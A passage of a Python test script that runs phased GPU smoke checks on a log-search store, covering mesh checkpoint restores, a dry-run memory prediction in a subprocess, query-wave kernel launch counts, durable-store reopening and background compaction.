    from repro_torch.launch.shardings import recsys_param_spec, tree_shardings
    from repro_torch.launch.steps import family_init
    from repro_torch.optim.adam import init_adam
    from repro_torch.tree import leaves

    spec = get_arch("xdeepfm")
    params = family_init(spec, smoke=True)(generator(0, dev))
    like = (params, init_adam(params))
    cm = CheckpointManager(str(ckpt_dir))
    plain, step = cm.restore(like)
    rule = recsys_param_spec(spec.smoke_config, spec.fsdp, mesh)
    (placed, step2), ms = synced_ms(torch, lambda: cm.restore(
        like, shardings=tree_shardings(like, rule, mesh)))
    require(step == step2 == RESUME_STEPS[1] - 1,
            f"restored steps {step} and {step2}")
    pairs = list(zip(leaves(placed), leaves(plain), strict=True))
    require(all(isinstance(a, DTensor) and a.device_mesh is mesh
                for a, _ in pairs), "a restored leaf is not on the mesh")
    full = [(a.full_tensor(), b) for a, b in pairs]
    require(all(a.device.type == dev.type and torch.equal(a, b)
                for a, b in full),
            "a leaf restored onto the mesh differs from the plain restore")
    print(f"mesh (e) xdeepfm checkpoint of step {step}: {len(pairs)} leaves "
          f"restored onto the mesh equal the plain restore bit for bit; "
          f"{ms:.1f} ms", flush=True)
    return dict(max_abs_err=0.0, limit=0.0, ms=ms, leaves=len(pairs))


def mesh_path(torch, dev, mesh, ckpt_dir, lm, setup_s) -> dict:
    """Phase 12: checks (a)-(c) and (e) on the one-rank NCCL mesh; (d)
    ran inside phase 8 (its result is ``lm``).  Its budget counts the
    group's set-up (``setup_s``) and check (d) too."""
    t0 = time.perf_counter()
    out = {"moe_bf16": mesh_moe(torch, dev, mesh, torch.bfloat16)}
    free(torch)
    out["moe_f32"] = mesh_moe(torch, dev, mesh, torch.float32)
    free(torch)
    out["attention"] = mesh_attention(torch, dev, mesh)
    out["compressed_psum"] = mesh_psum(torch, dev, mesh)
    free(torch)
    out["lm_prefill"] = lm
    out["restore"] = mesh_restore(torch, dev, mesh, ckpt_dir)
    wall_s = time.perf_counter() - t0 + setup_s + lm["ms"] / 1e3
    require(wall_s <= MESH_BUDGET_S,
            f"phase 12 took {wall_s:.1f} s (budget {MESH_BUDGET_S} s)")
    print(f"mesh: phase 12 {wall_s:.1f} s with the group's set-up "
          f"({setup_s:.1f} s) and check (d) (budget {MESH_BUDGET_S} s)",
          flush=True)
    return dict(out, wall_s=wall_s, setup_s=setup_s,
                budget_s=MESH_BUDGET_S)


# --------------------------------------------------------------- phase 13
def dryrun_child(out: str) -> int:
    """Phase 13 (a) and (b), run as ``chip_smoke.py --dryrun-child OUT`` in
    a process of its own (no card: fake tensors over fake process groups):
    phase 11's two steps at its cuts on a (1, 1) mesh, then PHASE13_CELL
    on the production 16 x 16 mesh.  Writes the results to OUT as JSON."""
    t_start = time.perf_counter()
    sys.path.insert(0, str(ROOT / "src"))
    from dataclasses import replace

    from repro_torch.configs import get_arch
    from repro_torch.launch import dryrun
    from repro_torch.launch.steps import build_bundle

    res = {}
    mesh = dryrun.fake_mesh((1, 1), ("data", "model"))
    cuts = {"xdeepfm": ("train_batch", dict(n_microbatches=XDEEPFM_MICRO)),
            "olmo-1b": ("train_4k", dict(dims=dict(seq=LM_TRAIN_SEQ,
                                                   batch=LM_TRAIN_BATCH)))}
    for arch, (shape_name, kw) in cuts.items():
        spec = get_arch(arch)
        shape = replace(spec.shapes[shape_name], **kw)
        spec = replace(spec, shapes=dict(spec.shapes, **{shape_name: shape}))
        c = dryrun.trace_bundle(build_bundle(spec, shape_name, mesh), mesh)
        res[arch] = dict(shape=shape_name, dims=shape.dims,
                         microbatches=shape.n_microbatches,
                         **{k: c[k] for k in (
                             "live_bytes", "argument_bytes", "temp_bytes",
                             "output_bytes", "flops", "trace_s")})
    t0 = time.perf_counter()
    cell = dryrun.run_cell(*PHASE13_CELL, multi_pod=False)
    res["cell"] = dict(
        arch=cell["arch"], shape=cell["shape"], mesh=cell["mesh"],
        status=cell["status"], n_chips=cell.get("n_chips"),
        fits_hbm=cell.get("fits_hbm"), roofline=cell.get("roofline"),
        per_device={k: v for k, v in cell.get("per_device", {}).items()
                    if k != "raw_while_once"},
        wall_s=time.perf_counter() - t0, error=cell.get("error"))
    res["child_s"] = time.perf_counter() - t_start
    Path(out).write_text(json.dumps(res))
    return 0


def start_dryrun(tmp: Path):
    """Start phase 13's subprocess; (process, its output file)."""
    out = tmp / "dryrun.json"
    proc = subprocess.Popen(
        [sys.executable, str(Path(__file__).resolve()), "--dryrun-child",
         str(out)], stdout=subprocess.PIPE, stderr=subprocess.STDOUT,
        text=True, env=dict(os.environ, CUDA_VISIBLE_DEVICES=""))
    return proc, out


def dryrun_phase(proc, out: Path, train: dict) -> dict:
    """Phase 13 (a) and (b): wait for the subprocess, hold each predicted
    ``live_bytes`` to phase 11's measured one-step peak within
    DRYRUN_LIVE_RTOL, the production cell to status ``ok`` and the
    subprocess to PHASE13_BUDGET_S."""
    try:
        log = proc.communicate(timeout=600)[0]
    finally:
        if proc.poll() is None:
            proc.kill()
            proc.wait()
    require(proc.returncode == 0,
            f"phase 13's dry run failed:\n{log[-3000:]}")
    res = json.loads(out.read_text())
    for arch in ("xdeepfm", "olmo-1b"):
        got = res[arch]
        mem = train[arch]["step_memory"]
        measured, beside = mem["own"], mem["before"] - mem["arguments"]
        got["measured"] = mem
        got["rel_err"] = (got["live_bytes"] - measured) / measured
        print(f"dryrun: {arch} {got['shape']} {got['dims']} x "
              f"{got['microbatches']} microbatches on a (1, 1) mesh: "
              f"live {got['live_bytes'] / 1e9:.3f} GB predicted (arguments "
              f"{got['argument_bytes'] / 1e9:.3f} GB), "
              f"{measured / 1e9:.3f} GB measured, the step's own (arguments "
              f"{mem['arguments'] / 1e9:.3f} GB; the card's peak "
              f"{mem['peak'] / 1e9:.3f} GB with {beside / 1e9:.3f} GB held "
              f"beside the step) "
              f"({got['rel_err']:+.4f}; limit {DRYRUN_LIVE_RTOL}); traced "
              f"in {got['trace_s']:.1f} s", flush=True)
        require(abs(got["rel_err"]) <= DRYRUN_LIVE_RTOL,
                f"the dry run's live bytes for {arch} miss the measured peak "
                f"by {got['rel_err']:+.3f} (limit {DRYRUN_LIVE_RTOL})")
    cell = res["cell"]
    print(f"dryrun: {'/'.join(PHASE13_CELL)} on 16 x 16: {cell['status']} "
          f"in {cell['wall_s']:.1f} s, live "
          f"{(cell['per_device'].get('live_bytes') or 0) / 1e9:.3f} GB a "
          f"device, roofline {cell['roofline']}; the subprocess "
          f"{res['child_s']:.1f} s", flush=True)
    require(cell["status"] == "ok",
            f"the dry run of {PHASE13_CELL} ended {cell['status']}: "
            f"{cell.get('error')}")
    require(res["child_s"] <= PHASE13_BUDGET_S,
            f"phase 13's dry run took {res['child_s']:.1f} s (budget "
            f"{PHASE13_BUDGET_S} s)")
    return res


def host_extract_path(torch, np, dev, counters, seg) -> dict:
    """Phase 13 (c): phase 4's term wave and its contains AND wave through
    a ``QueryEngine(extract_on_device=False)`` over phase 4's segments:
    candidates equal to phase 4's bit for bit; ``token_hash``, the fused
    probe (one a plane-backed segment) and the fold launched as in device
    mode, ``bitmap_extract`` never."""
    from repro_torch.core.query_engine import QueryEngine
    from repro_torch.core.tokenizer import term_query_tokens

    store = seg["store"]
    eng = QueryEngine(store.segments, n_postings=len(store.blobs),
                      device=dev, extract_on_device=False)
    n_planes = len(eng._plane_segs)
    waves = {"term": ([term_query_tokens(t) for t in seg["terms"]],
                      seg["term_cands"]),
             "contains_and": (seg["needle_toks"], seg["contains"]["and"])}
    out, total = {}, {}
    for name, (toks, want) in waves.items():
        reset(counters)
        t = time.perf_counter()
        got = eng.query_batch(toks, op="and")
        torch.cuda.synchronize()
        ms = (time.perf_counter() - t) * 1e3
        launches = read(counters)
        require(len(got) == len(want) and all(
            g.dtype == w.dtype and np.array_equal(g, w)
            for g, w in zip(got, want)),
            f"host extraction: the {name} wave's candidates differ from "
            f"phase 4's")
        require(launches["bitmap_extract"] == 0,
                f"host extraction: the {name} wave launched bitmap_extract")
        require(launches["token_hash"] == 1
                and launches["sketch_probe"] == n_planes
                and launches["bitset_reduce_batch"] == 1,
                f"host extraction: the {name} wave launched {launches}, not "
                f"token_hash and the fold once and one probe a segment "
                f"({n_planes})")
        out[name] = dict(queries=len(toks), ms=ms,
                         answers=int(sum(len(g) for g in got)),
                         launches=launches)
        for k, v in launches.items():
            total[k] = total.get(k, 0) + v
    print(f"host extraction on phase 4's store: "
          + ", ".join(f"{k} wave Q={v['queries']} {v['ms']:.1f} ms "
                      f"({v['answers']} candidates)" for k, v in out.items())
          + f", equal to phase 4's; launches {total}", flush=True)
    return dict(waves=out, launches=total)


# ---------------------------------------------------------------- phase 4
def main_path(torch, np, dev, counters) -> dict:
    from repro_torch.core import batch_builder
    from repro_torch.core.tokenizer import (contains_query_tokens,
                                            term_query_tokens)
    from repro_torch.kernels.bitmap_extract.ops import (bitmap_extract,
                                                       bitmap_extract_ragged)
    from repro_torch.kernels.bitset_ops.ops import (bitset_reduce_batch,
                                                    bitset_reduce_ragged)
    from repro_torch.kernels.sketch_probe.ops import (match_planes,
                                                      mphf_probe_arrs)
    from repro_torch.logstore.datasets import (generate_dataset, id_queries,
                                               present_id_queries)
    from repro_torch.logstore.store import DynaWarpStore, ScanStore

    t0 = time.perf_counter()
    ds = generate_dataset("smoke", n_lines=N_LINES, n_sources=N_SOURCES,
                          seed=SEED)
    present = present_id_queries(ds, SEED + 1, N_TERMS // 2)
    terms = present + id_queries(SEED + 2, N_TERMS - len(present))
    rng = np.random.default_rng(SEED)
    needles = []
    for t in present_id_queries(ds, SEED + 3, N_NEEDLES):
        n = int(rng.integers(5, 11))          # 3..8 trigram tokens
        s = int(rng.integers(0, len(t) - n + 1))
        needles.append(t[s:s + n])
    needle_toks = [contains_query_tokens(n) for n in needles]
    print(f"dataset: {ds.n_lines} lines, {N_SOURCES} sources, "
          f"{time.perf_counter() - t0:.1f} s", flush=True)

    # the (N, L) term matrix of every token_hash launch of the ingest, and
    # every 64th matrix itself, and each wave's matrix, fold inputs and
    # extract inputs (``record``): phase 3's kernels are also timed at the
    # median ingest launch and at the waves
    inner, launched, kept = batch_builder.token_matrix_fingerprints, [], []
    wave_mats, wave_folds, wave_extracts = {}, {}, {}

    def recording(mat, lengths, device):
        if len(launched) % 64 == 0:
            kept.append((mat.copy(), lengths.copy()))
        launched.append(mat.shape)
        return inner(mat, lengths, device)

    reset(counters)
    # ----------------------------------------------- the main path proper
    t0 = time.perf_counter()
    store = DynaWarpStore(batch_lines=BATCH_LINES, mode="segmented",
                          device=dev)
    batch_builder.token_matrix_fingerprints = recording
    try:
        store.ingest(ds.lines)
        store.finish()
    finally:
        batch_builder.token_matrix_fingerprints = inner
    ingest_s = time.perf_counter() - t0
    # the million dataset lines are this script's, not the store's: move
    # them out of the cyclic collector's view so its full passes do not
    # land inside the timed waves
    gc.collect()
    gc.freeze()
    eng = store.engine
    n_planes = sum(s.planes is not None for s in store.segments)
    waves = {}

    def wave(name, fn):
        before = {k: c.launch_count for k, c in counters.items()}
        entries = (match_planes, mphf_probe_arrs, bitset_reduce_ragged,
                   bitmap_extract_ragged, bitset_reduce_batch, bitmap_extract)
        at = [e.launch_count for e in entries]
        t = time.perf_counter()
        out = fn()
        torch.cuda.synchronize()
        cold = time.perf_counter() - t
        first = [a.copy() for a in out]
        t = time.perf_counter()
        again = fn()
        torch.cuda.synchronize()
        warm = time.perf_counter() - t
        require(all(np.array_equal(a, b) for a, b in zip(first, again)),
                f"{name}: a repeated wave answered differently")
        require(all(np.array_equal(a, b) for a, b in zip(first, out)),
                f"{name}: the next wave changed the first wave's answers")
        launches = {k: (c.launch_count - before[k]) // 2
                    for k, c in counters.items()}
        fused, probe, fold, extract, fold_batch, extract_padded = (
            (e.launch_count - a) // 2 for e, a in zip(entries, at))
        require(launches["token_hash"] == 1, f"{name}: token_hash launched "
                f"{launches['token_hash']} times a wave, not once")
        require(fused == launches["sketch_probe"] == n_planes,
                f"{name}: {fused} fused probes a wave for {n_planes} "
                f"segments ({launches['sketch_probe']} sketch_probe "
                f"launches in all)")
        require(probe == 0, f"{name}: the wave launched the probe entry")
        require(fold == launches["bitset_reduce_batch"] == 1
                and fold_batch == 0, f"{name}: {fold} ragged folds a wave "
                f"({launches['bitset_reduce_batch']} bitset_reduce_batch "
                f"launches in all), not one")
        require(extract == launches["bitmap_extract"] == 1
                and extract_padded == 0, f"{name}: {extract} ragged "
                f"extracts a wave ({launches['bitmap_extract']} "
                f"bitmap_extract launches in all), not one")
        trace = []
        wall_ms, busy_ms = device_busy(torch, fn, trace)
        probes = [i for i, k in enumerate(trace) if "match_kernel" in k]
        folds = [i for i, k in enumerate(trace)
                 if "bitset_reduce_kernel" in k]
        require(len(probes) == n_planes and len(folds) == 1,
                f"{name}: the profiler saw {len(probes)} probes and "
                f"{len(folds)} folds in a wave: {trace}")
        between = trace[probes[-1] + 1:folds[0]]
        require(folds[0] == probes[-1] + 1, f"{name}: between the last "
                f"probe and the fold the device ran {between}")
        waves[name] = dict(queries=len(out), cold_s=cold, warm_s=warm,
                           warm_qps=len(out) / warm, launches=launches,
                           profiled_wall_ms=wall_ms, device_busy_ms=busy_ms,
                           device_ops=len(trace))
        print(f"wave {name}: {len(out)} queries, cold {cold:.3f} s, warm "
              f"{warm:.4f} s = {len(out) / warm:.0f} q/s, launches per wave "
              f"{launches}, device busy {busy_text(wall_ms, busy_ms)}, "
              f"{len(trace)} device kernels and copies, none between the "
              f"last probe and the fold", flush=True)
        return out

    term_cands = wave("term", lambda: store.candidates_term_batch(terms))
    contains = {op: wave(f"contains_{op}",
                         lambda op=op: eng.query_batch(needle_toks, op=op))
                for op in ("and", "or")}

    def record(name, token_lists, op, matrix=True):
        """One untimed wave through the engine's steps, keeping the
        accumulator and token counts as the fold receives them, the bitmaps
        and offsets as the extract receives them and, with ``matrix``, the
        wave's token matrix."""
        def capture(mat, lengths, device):
            if matrix:
                wave_mats[name] = (mat.copy(), lengths.copy())
            return inner(mat, lengths, device)

        batch_builder.token_matrix_fingerprints = capture
        try:
            flat, lens = batch_builder.wave_fingerprints(token_lists,
                                                         device=dev)
        finally:
            batch_builder.token_matrix_fingerprints = inner
        live = np.flatnonzero(lens)
        acc, lens_dev = eng._planes(eng._pack(flat, lens[live]), lens[live])
        wave_folds[name] = (acc.clone(), lens_dev.clone(), op)
        bitmaps, counts = eng._fold(acc, lens_dev, op)
        _, ends, offsets = eng._offsets(counts, live, len(lens))
        if offsets is not None:
            wave_extracts[name] = (bitmaps.clone(), offsets.clone(),
                                   int(ends[-1]))

    def stages(name, token_lists, op):
        """Host-clock split of one warm wave into the engine's steps, each
        called in turn as ``_wave`` calls them, with the bytes its copies
        bring to the host.  The fingerprint stage's token_hash call alone
        (the matrix up, one launch, the fingerprints back) is timed again
        after the split, on the matrix ``record`` kept."""
        t = [time.perf_counter()]
        flat, lens = batch_builder.wave_fingerprints(token_lists, device=dev)
        live = np.flatnonzero(lens)
        t.append(time.perf_counter())
        fps = eng._pack(flat, lens[live])
        t.append(time.perf_counter())
        bitmaps, counts = eng._fold(*eng._planes(fps, lens[live]), op)
        t.append(time.perf_counter())
        # the extract stage's steps: the offsets (prefix sums and their
        # upload), the launch and the ids' copy to the host, then the int64
        # copy and the queries' views
        starts, ends, offsets = eng._offsets(counts, live, len(lens))
        t.append(time.perf_counter())
        total = int(ends[-1])
        ids = (eng._ids(bitmaps, offsets, total) if total
               else np.empty(0, np.int32))
        t.append(time.perf_counter())
        ids64 = ids.astype(np.int64)
        answers = [ids64[a:b] for a, b in zip(starts.tolist(),
                                              ends.tolist())]
        t.append(time.perf_counter())
        require(len(answers) == len(token_lists), f"{name}: stage split "
                f"answered {len(answers)} of {len(token_lists)} queries")
        ms = [1e3 * (b - a) for a, b in zip(t, t[1:])]
        t0 = time.perf_counter()            # the ids' int64 copy alone
        ids.astype(np.int64)
        int64_ms = 1e3 * (time.perf_counter() - t0)
        mat, lengths = wave_mats[name]
        t0 = time.perf_counter()
        inner(mat, lengths, dev)
        hash_ms = 1e3 * (time.perf_counter() - t0)
        copied = counts.nbytes + ids.nbytes
        limit = 4 * (total + live.size + 1)
        require(copied <= limit, f"{name}: the fold and extract copied "
                f"{copied} bytes to the host, past 4 (total + Q + 1) = "
                f"{limit}")
        # what the padded (Qb, max_hits) transfer of the previous engine
        # would copy for the same answers
        padded = 4 * fps.shape[0] * (1 << (max(int(counts.max()), 8) - 1)
                                     .bit_length()) + 4 * fps.shape[0]
        waves[name]["stages_ms"] = dict(
            fingerprint=ms[0], pack=ms[1], probe_fold=ms[2],
            extract=sum(ms[3:]), fingerprint_token_hash_call=hash_ms,
            extract_offsets=ms[3], extract_launch_copy=ms[4],
            extract_int64_views=ms[5], extract_int64_alone=int64_ms)
        waves[name]["d2h_bytes"] = dict(
            fingerprints=int(flat.nbytes), counts=int(counts.nbytes),
            ids=int(ids.nbytes), answer_ids=total, live=int(live.size),
            max_count=int(counts.max()), qb_tb=list(fps.shape),
            padded_transfer=padded)
        print(f"wave {name} stages (host clock): fingerprint {ms[0]:.2f} ms "
              f"(of it the token_hash call {hash_ms:.2f} ms), pack "
              f"{ms[1]:.2f} ms, probe+fold {ms[2]:.2f} ms, extract "
              f"{sum(ms[3:]):.2f} ms (offsets {ms[3]:.2f}, launch and copy "
              f"{ms[4]:.2f}, int64 copy and views {ms[5]:.2f}, the int64 "
              f"copy timed again alone {int64_ms:.2f}); device-to-host "
              f"bytes: fingerprints {flat.nbytes}, counts {counts.nbytes}, "
              f"ids {ids.nbytes} ({total} ids, at most {int(counts.max())} "
              f"a query, {live.size} live queries, Qb x Tb {fps.shape}; a "
              f"padded (Qb, max_hits) id matrix would be {padded})",
              flush=True)
        return fps

    term_lists = [term_query_tokens(t) for t in terms]
    record("term", term_lists, "and")
    record("contains_and", needle_toks, "and")
    record("contains_or", needle_toks, "or", matrix=False)  # the same tokens
    term_fps = stages("term", term_lists, "and")
    stages("contains_and", needle_toks, "and")
    launches = read(counters)
    # ------------------------------------------------------------ checks
    segs = store.segments
    print(f"store: {len(store.blobs)} batches, {len(segs)} segments "
          f"{[tuple(s.planes.shape) if s.planes is not None else None for s in segs]}"
          f", engine W={eng.words}, {eng.device_bytes()} bytes on the device, "
          f"uploads {eng.upload_count}, ingest+finish {ingest_s:.1f} s",
          flush=True)
    require(eng.upload_count == len(segs), "one upload per segment")
    require(all(s.planes is not None for s in segs),
            "every segment has bitmap planes at the default budget")
    t0 = time.perf_counter()
    for t, c in zip(terms, term_cands):
        require(np.array_equal(c, eng.host_query(term_query_tokens(t))),
                f"term wave differs from the host path on {t!r}")
    for op, got in contains.items():
        for toks, c in zip(needle_toks, got):
            require(np.array_equal(c, eng.host_query(toks, op=op)),
                    f"contains {op} wave differs from the host path")
    n_hit = sum(1 for c in term_cands[:len(present)] if len(c))
    require(n_hit == len(present), "a present id found no candidate")
    print(f"host-path check: {len(terms)} terms + 2 x {len(needles)} "
          f"needles identical, {time.perf_counter() - t0:.1f} s", flush=True)

    t0 = time.perf_counter()
    scan = ScanStore(batch_lines=BATCH_LINES)
    scan.ingest(ds.lines)
    scan.finish()
    sample = present[:N_SCAN_SAMPLE - 2] + terms[-2:]
    truth = {t: scan.query_term(t).matches for t in sample}
    for t, r in zip(sample, store.query_term_batch(sample)):
        require(r.matches == truth[t], f"scan oracle differs on {t!r}")
    print(f"scan-oracle check: {len(sample)} terms identical "
          f"({sum(len(truth[t]) for t in sample[:2])} "
          f"matches in the first two), {time.perf_counter() - t0:.1f} s",
          flush=True)
    rows = sorted(n for n, _ in launched)
    median = rows[len(rows) // 2]
    mat, lens = min(kept, key=lambda k: abs(k[0].shape[0] - median))
    token_launch = dict(launches=len(launched), rows_median=median,
                        rows_min=rows[0], rows_max=rows[-1],
                        widths=sorted({l for _, l in launched}),
                        case=(mat, lens))
    print(f"token_hash launches of the ingest: {len(launched)}, rows "
          f"{rows[0]}..{rows[-1]}, median {median}, widths "
          f"{token_launch['widths']}; waves "
          f"{ {k: m.shape for k, (m, _) in wave_mats.items()} }", flush=True)
    # the fused probe as the term wave launches it on the largest segment
    big = max(store.segments, key=lambda sg: sg.n_tokens)
    fused_case = (big, u32_tensor(torch, np, term_fps.reshape(-1), dev),
                  big.device_cache(dev),
                  torch.zeros((term_fps.size, eng.words), dtype=torch.int32,
                              device=dev),
                  f"term wave Q={term_fps.size} against the largest segment "
                  f"({big.n_tokens} tokens, W={big.planes.shape[1]}->"
                  f"{eng.words})")
    return dict(launches=launches, waves=waves, ingest_s=ingest_s,
                ds=ds, terms=terms, needles=needles, needle_toks=needle_toks,
                term_cands=term_cands, contains=contains,
                store=store, scan=scan, truth=truth, token_launch=token_launch,
                wave_mats=wave_mats, wave_folds=wave_folds,
                wave_extracts=wave_extracts, fused_case=fused_case)


# --------------------------------------------------------------- phase 4b
def dir_bytes(path) -> dict:
    """Bytes on disk of a durable store: its blob file, its segment files
    and its manifest."""
    out = dict(blob=0, segments=0, manifest=0)
    for name in os.listdir(path):
        n = os.path.getsize(os.path.join(path, name))
        if name.startswith("blobs-"):
            out["blob"] += n
        elif name.endswith(".dwp"):
            out["segments"] += n
        elif name == "MANIFEST.json":
            out["manifest"] += n
    return out


def durable_path(torch, np, dev, counters, seg, tmp) -> dict:
    """Phase 4's lines and queries through the durable store: a per-spill
    publishing ingest with snapshot waves, a reopen from np.memmap (and a
    second one that must upload nothing), background compaction under
    waves, and a crash at a manifest swap, recovered, resumed and
    finished.  Every answer is held to phase 4's.  The stores live under
    ``tmp``; the finished 1M-line one (``path`` of the result) stays
    there for phase 4c."""
    from repro_torch.core import faults, serial
    from repro_torch.core.batch_builder import wave_fingerprints
    from repro_torch.core.tokenizer import term_query_tokens
    from repro_torch.kernels.bitmap_extract.ops import bitmap_extract_ragged
    from repro_torch.kernels.bitset_ops.ops import bitset_reduce_ragged
    from repro_torch.kernels.sketch_probe.ops import match_planes
    from repro_torch.logstore.store import MANIFEST_NAME, DynaWarpStore

    lines, terms, needle_toks = seg["ds"].lines, seg["terms"], seg["needle_toks"]
    want = {"term": seg["term_cands"], "contains_and": seg["contains"]["and"],
            "contains_or": seg["contains"]["or"]}
    waves_of = {
        "term": lambda st: st.candidates_term_batch(terms),
        "contains_and": lambda st: st.engine.query_batch(needle_toks,
                                                         op="and"),
        "contains_or": lambda st: st.engine.query_batch(needle_toks, op="or")}
    # the standing wave: present ids of the term wave's first half, absent
    # ones of its second (a present id's post-filter reads hundreds of
    # batches)
    half = len(terms) // 2
    standing = (terms[:N_STANDING_PRESENT]
                + terms[half:half + N_STANDING - N_STANDING_PRESENT])
    truth = [r.matches for r in seg["store"].query_term_batch(standing)]
    term_lists = [term_query_tokens(t) for t in terms]

    def same(name, got, what):
        require(len(got) == len(want[name]) and all(
            np.array_equal(a, b) for a, b in zip(got, want[name])),
            f"{what}: the {name} wave differs from phase 4's candidates")

    def prefix_exact(results, n_lines, what):
        for t, r, m in zip(standing, results, truth):
            require(r.matches == [x for x in m if x < n_lines],
                    f"{what}: {t!r} differs from phase 4's matches below "
                    f"line {n_lines}")

    def exact(store, what):
        """A finished store whose segments are not phase 4's: the term
        wave equals its engine's host path, and the standing wave's matches
        equal phase 4's."""
        eng = store.engine
        for toks, c in zip(term_lists, eng.query_batch(term_lists)):
            require(np.array_equal(c, eng.host_query(toks)), f"{what}: the "
                    f"term wave differs from the host path")
        prefix_exact(store.query_term_batch(standing), len(lines), what)

    entries = (match_planes, bitset_reduce_ragged, bitmap_extract_ragged)

    def checked_wave(name, store, what):
        """One wave of ``store``: one token_hash launch, one fused probe a
        segment, one ragged fold and one ragged extraction, answers equal
        to phase 4's.  Returns its host-clock seconds."""
        n_planes = len(store.engine._plane_segs)
        before, at = read(counters), [e.launch_count for e in entries]
        t = time.perf_counter()
        out = waves_of[name](store)
        torch.cuda.synchronize()
        dt = time.perf_counter() - t
        n = {k: v - before[k] for k, v in read(counters).items()}
        fused, fold, extract = (e.launch_count - a
                                for e, a in zip(entries, at))
        require(n["token_hash"] == 1, f"{what} {name}: token_hash launched "
                f"{n['token_hash']} times a wave, not once")
        require(fused == n["sketch_probe"] == n_planes, f"{what} {name}: "
                f"{fused} fused probes for {n_planes} segments "
                f"({n['sketch_probe']} sketch_probe launches in all)")
        require(fold == n["bitset_reduce_batch"] == 1, f"{what} {name}: "
                f"{fold} ragged folds a wave, not one")
        require(extract == n["bitmap_extract"] == 1, f"{what} {name}: "
                f"{extract} ragged extractions a wave, not one")
        same(name, out, what)
        return dt

    reset(counters)
    # ------------------------------------------------ durable ingest
    path = os.path.join(tmp, "store")
    st = DynaWarpStore(batch_lines=BATCH_LINES, mode="segmented",
                       path=path, fsync=True, publish_per_spill=True,
                       device=dev)
    snaps, snap_s = [], 0.0
    t0 = time.perf_counter()
    for i in range(0, len(lines), SNAP_EVERY):
        st.ingest(lines[i:i + SNAP_EVERY])
        t = time.perf_counter()
        snap = st.snapshot()
        got = snap.query_term_batch(standing)
        torch.cuda.synchronize()
        dt = time.perf_counter() - t
        snap_s += dt
        prefix_exact(got, snap.n_lines, f"snapshot at {st._n_lines} "
                     f"lines")
        snaps.append(dict(lines_in=st._n_lines, n_lines=snap.n_lines,
                          generation=st._manifest_gen, ms=1e3 * dt))
    st.finish()
    ingest_s = time.perf_counter() - t0 - snap_s
    require(any(s["n_lines"] for s in snaps),
            "no snapshot covered a published prefix")
    disk, publishes = dir_bytes(path), st._manifest_gen
    index_bytes = st.index_bytes()
    print(f"durable ingest+finish {ingest_s:.1f} s (snapshot waves "
          f"apart), publish_s {st.stats.publish_s:.2f} s, "
          f"{publishes} manifest publishes, {len(st.segments)} "
          f"segments; on disk: blob file {disk['blob']}, segment files "
          f"{disk['segments']}, manifest {disk['manifest']} bytes; "
          f"index_bytes() {index_bytes}", flush=True)
    print("durable snapshots (standing wave of "
          f"{len(standing)} terms): " + ", ".join(
              f"{s['lines_in']} in / {s['n_lines']} published (gen "
              f"{s['generation']}) {s['ms']:.2f} ms" for s in snaps),
          flush=True)
    for name in waves_of:
        same(name, waves_of[name](st), "durable store")
    print("durable store: term, contains AND and OR candidates equal "
          "phase 4's bit for bit", flush=True)
    st.close()

    # -------------------------------------------------------- reopen
    t = time.perf_counter()
    re = DynaWarpStore.open(path, mmap=True, device=dev)
    open_s = time.perf_counter() - t
    require(all(isinstance(s.planes, np.memmap) for s in re.segments),
            "the reopened segments are not memmap-backed")
    seg_files = [os.path.join(path, s._durable_file) for s in re.segments]
    t = time.perf_counter()
    for f in seg_files:
        serial.load(f, mmap=True, load_source=False)
    bare_s = time.perf_counter() - t
    n_lists = sum(len(s.sealed_source.lists) for s in re.segments)
    require(not any(s.has_device_cache(dev) for s in re.segments),
            "a closed store's buffers are still staged")
    first_s = checked_wave("term", re, "reopened")
    upload_bytes = re.engine.device_bytes()
    require(re.engine.upload_count == len(re.segments),
            f"{re.engine.upload_count} uploads for {len(re.segments)} "
            f"segments")
    warm = {}
    for name in waves_of:
        dt = checked_wave(name, re, "reopened")
        warm[name] = dict(ms=1e3 * dt, qps=len(want[name]) / dt)
    print(f"reopen: open() {open_s:.3f} s (the segment files alone, "
          f"without their sealed sources, {bare_s:.3f} s; the sealed "
          f"sources' {n_lists} posting lists are one memmap view each), "
          f"first term wave {first_s:.3f} s ({re.engine.upload_count} "
          f"uploads from the memmapped segments, {upload_bytes} bytes); "
          "warm " + ", ".join(f"{k} {v['ms']:.2f} ms = {v['qps']:.0f} q/s"
                              for k, v in warm.items())
          + "; launches as phase 4's, answers equal", flush=True)
    re2 = DynaWarpStore.open(path, mmap=True, device=dev)
    require(all(s.has_device_cache(dev) for s in re2.segments),
            "a second open() finds its segments unstaged")
    again_s = checked_wave("term", re2, "second open")
    require(re2.engine.upload_count == 0, f"a second open() uploaded "
            f"{re2.engine.upload_count} segments")
    print(f"second open() in the process: first term wave {again_s:.3f} "
          f"s, 0 uploads, 0 bytes", flush=True)
    big = max(re.segments, key=lambda sg: sg.n_tokens)
    flat, lens = wave_fingerprints(term_lists, device=dev)
    fps = re.engine._pack(flat, lens[np.flatnonzero(lens)])
    fused_case = (big, u32_tensor(torch, np, fps.reshape(-1), dev),
                  big.device_cache(dev),
                  torch.zeros((fps.size, re.engine.words),
                              dtype=torch.int32, device=dev),
                  f"term wave Q={fps.size} against the largest reopened "
                  f"(memmap-backed) segment ({big.n_tokens} tokens, "
                  f"W={big.planes.shape[1]}->{re.engine.words})")

    # -------------------------------------------- background compaction
    bg = DynaWarpStore.open(path, background_compact=True, device=dev)
    gen0, pre, eng0 = bg._manifest_gen, list(bg.segments), bg.engine
    tiers = [s.size_bytes().bit_length() for s in pre]
    answered = []            # (engine, answers) of each wave meanwhile
    t = time.perf_counter()
    bg.request_compact(fanout=2)
    while bg._worker._pending or bg._worker._active:
        eng = bg.engine
        answered.append((eng, eng.query_batch(term_lists)))
        torch.cuda.synchronize()
    merges = bg.wait_compaction(timeout=600)
    compact_s = time.perf_counter() - t
    require(merges >= 1, f"background compaction merged nothing "
            f"(segment size tiers {tiers})")
    require(bg._manifest_gen > gen0, "the manifest did not advance")
    files = set(os.listdir(path))
    gone = {s._durable_file for s in pre
            if all(s is not x for x in bg.segments)}
    require(gone and not gone & files,
            f"merged-away segment files remain: {gone & files}")
    new = [s for s in bg.segments if all(s is not p for p in pre)]
    # a wave of the old engine equals phase 4's candidates, one of the
    # compacted engine that engine's host path
    host = {}
    for eng, got in answered:
        if eng is eng0:
            same("term", got, "during compaction")
            continue
        if id(eng) not in host:
            host[id(eng)] = [eng.host_query(x) for x in term_lists]
        require(all(np.array_equal(a, b)
                    for a, b in zip(got, host[id(eng)])),
                "during compaction: a wave of the compacted engine "
                "differs from its host path")
    exact(bg, "after compaction")
    for op in ("and", "or"):
        eng = bg.engine
